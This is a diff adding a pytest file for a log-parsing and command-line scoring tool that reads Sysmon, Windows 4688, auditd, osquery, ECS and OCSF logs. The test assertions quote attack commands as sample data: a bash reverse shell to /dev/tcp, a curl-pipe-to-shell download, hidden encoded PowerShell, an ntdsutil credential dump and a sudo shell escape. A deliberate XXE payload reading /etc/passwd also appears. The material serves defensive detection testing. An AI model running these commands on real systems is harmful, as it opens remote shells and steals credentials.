@@ -1,0 +1,129 @@
+"""Endpoint logs read as they are written: Sysmon 1 and Security 4688 (Winlogbeat JSON, the evtx package's JSON,
+Windows event XML), auditd, osquery, ECS and OCSF. The files in tests/logs/ were written by hand for these tests,
+in each product's documented shape."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from conftest import cli
+from smallworld import data as D
+from smallworld.demo import EXAMPLES
+from smallworld.errors import DataError
+
+LOGS = Path(__file__).resolve().parent / "logs"
+
+
+def read(name: str, **kw):
+    st = D.ReadStats()
+    return D.read_rows(LOGS / name, on_error="skip", stats=st, **kw), st
+
+
+def test_sysmon_as_winlogbeat_json_keeps_the_event_and_counts_the_rest():
+    rows, st = read("sysmon_winlogbeat.jsonl")
+    assert [r["id"] for r in rows] == ["WS-0142.corp.example:88211", "WS-0142.corp.example:88214",
+                                       "WS-0142.corp.example:88230"]
+    assert rows[0]["text"].startswith("powershell.exe -nop -w hidden -enc ")
+    ev = rows[0]["event"]
+    assert ev["kind"] == "sysmon-1" and ev["user"] == "CORP\\jdoe" and ev["pid"] == "6120" and ev["ppid"] == "4412"
+    assert ev["image"].endswith("\\powershell.exe") and ev["parent_image"].endswith("\\WINWORD.EXE")
+    assert "Invoice_2211.docm" in ev["parent_command_line"] and ev["host"] == "WS-0142.corp.example"
+    # a network connection (event 3), a process without a command line, and a truncated record
+    assert st.reasons == {"not a process creation": 1, "no command line": 1, "malformed JSON": 1}
+    with pytest.raises(DataError, match="line 6"):
+        D.read_rows(LOGS / "sysmon_winlogbeat.jsonl")  # malformed is an error unless skipped; the others are not
+
+
+def test_sysmon_as_evtx_package_json():
+    rows, st = read("sysmon_evtx.jsonl")
+    assert [r["event"]["host"] for r in rows] == ["SRV-FILE01"] * 2 and st.skipped == 0
+    assert rows[0]["text"].startswith("certutil.exe -urlcache") and rows[0]["event"]["ppid"] == "2920"
+
+
+def test_windows_event_xml_with_and_without_a_root():
+    rows, st = read("security_4688.xml")  # wevtutil's root-less concatenation
+    assert [r["event"]["kind"] for r in rows] == ["security-4688"] * 2
+    assert rows[0]["event"]["user"] == "CORP\\adm-rsmith" and "ntds_dump" in rows[0]["text"]
+    assert rows[0]["event"]["image"] == "C:\\Windows\\System32\\ntdsutil.exe"
+    assert st.reasons == {"not a process creation": 1, "no command line": 1}  # a logon; 4688 without command lines
+    rows, _ = read("sysmon_events.xml")  # a document with <Events>
+    assert len(rows) == 1 and "--type=renderer" in rows[0]["text"] and rows[0]["id"] == "LT-0077:12"
+
+
+def test_windows_event_xml_is_found_by_content_and_entities_stay_unresolved(tmp_path):
+    p = tmp_path / "events.log"
+    p.write_text((LOGS / "security_4688.xml").read_text())
+    assert len(D.read_rows(p, on_error="skip")) == 2
+    evil = tmp_path / "xxe.xml"
+    evil.write_text('<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+                    '<Event><System><EventID>4688</EventID></System><EventData><Data Name="CommandLine">&x;</Data>'
+                    '</EventData></Event>')
+    rows = D.read_rows(evil, on_error="skip")
+    assert all("root:" not in r["text"] for r in rows)
+
+
+def test_auditd_groups_records_by_serial_and_decodes_arguments():
+    rows, st = read("audit.log")
+    assert [r["text"] for r in rows] == ['bash -c "bash -i >& /dev/tcp/10.0.0.5/4443 0>&1"',
+                                         "/usr/sbin/logrotate /etc/logrotate.conf",
+                                         "sudo find . -exec /bin/sh \\; quit"]  # the last from PROCTITLE alone
+    assert rows[0]["event"] == {"kind": "auditd", "id": "web-03:20881", "time": "2025-11-12T00:00:00.120000Z",
+                                "host": "web-03", "user": "1001", "image": "/usr/bin/bash", "pid": "4120",
+                                "ppid": "4102"}
+    assert rows[1]["event"]["user"] == "0"  # auid unset: the uid
+    assert st.reasons == {"not a process creation": 1, "malformed record": 1}
+
+
+def test_osquery_ecs_and_ocsf():
+    rows, st = read("osquery.jsonl")
+    assert [r["text"] for r in rows] == ["/bin/sh -c curl -fsSL http://203.0.113.9/i.sh | sh",
+                                         "/usr/bin/git fetch --prune origin"]
+    assert rows[1]["event"]["ppid"] == "8999" and st.reasons == {"no command line": 1, "not a process creation": 1}
+    rows, _ = read("ecs.jsonl")
+    assert rows[0]["event"]["parent_command_line"] == "bash" and rows[1]["event"]["host"] == "k8s-node-4"
+    assert rows[1]["text"] == "/lib/systemd/systemd-resolved"  # dotted keys
+    rows, _ = read("ocsf.jsonl")
+    assert rows[0]["text"].startswith("schtasks /create") and rows[0]["event"]["user"] == "CORP\\kwilson"
+    assert rows[0]["event"]["time"] == "2025-11-20T00:53:20.000000Z"
+
+
+def test_an_evtx_that_is_not_one_is_a_clear_error(tmp_path):
+    pytest.importorskip("evtx", reason="the endpoint extra reads .evtx")
+    p = tmp_path / "broken.evtx"
+    p.write_bytes(b"ElfFile\x00" + b"\x00" * 100)
+    with pytest.raises(DataError, match="not a readable EVTX file"):
+        D.read_rows(p)
+
+
+@pytest.fixture(scope="module")
+def model(tmp_path_factory):
+    out = tmp_path_factory.mktemp("logs") / "m"
+    cli("train", "--task", "cmdlines", "--labelled", EXAMPLES / "cmdlines_seed.jsonl", "--teacher", "none", "--out", out)
+    return out
+
+
+def test_score_a_sysmon_log_in_one_command(model):
+    r = cli("score", model, LOGS / "sysmon_winlogbeat.jsonl", "--on-error", "skip")
+    rows = [json.loads(x) for x in r.stdout.splitlines()]
+    assert [x["id"] for x in rows] == ["WS-0142.corp.example:88211", "WS-0142.corp.example:88214",
+                                       "WS-0142.corp.example:88230"]
+    assert rows[0]["event"]["parent_image"].endswith("WINWORD.EXE") and {"score", "decision"} <= set(rows[0])
+    assert "skipped 3 rows" in r.stderr
+
+
+def test_an_audit_log_on_stdin_is_found_by_content(model):
+    r = cli("score", model, "-", "--on-error", "skip", input=(LOGS / "audit.log").read_text())
+    rows = [json.loads(x) for x in r.stdout.splitlines()]
+    assert [x["event"]["kind"] for x in rows] == ["auditd"] * 3 and rows[0]["id"] == "web-03:20881"
+
+
+def test_a_folder_of_logs_is_unlabelled_input_to_train(tmp_path):
+    out = tmp_path / "m"
+    cli("train", "--task", "cmdlines", "--labelled", EXAMPLES / "cmdlines_seed.jsonl", "--unlabelled", LOGS,
+        "--teacher", "none", "--on-error", "skip", "--out", out)
+    m = json.loads((out / "manifest.json").read_text())
+    assert m["counts"]["unlabelled"] == 3 + 2 + 2 + 1 + 3 + 2 + 2 + 1
+    assert m["inputs"][str(LOGS)]["files"] == len(list(LOGS.iterdir()))
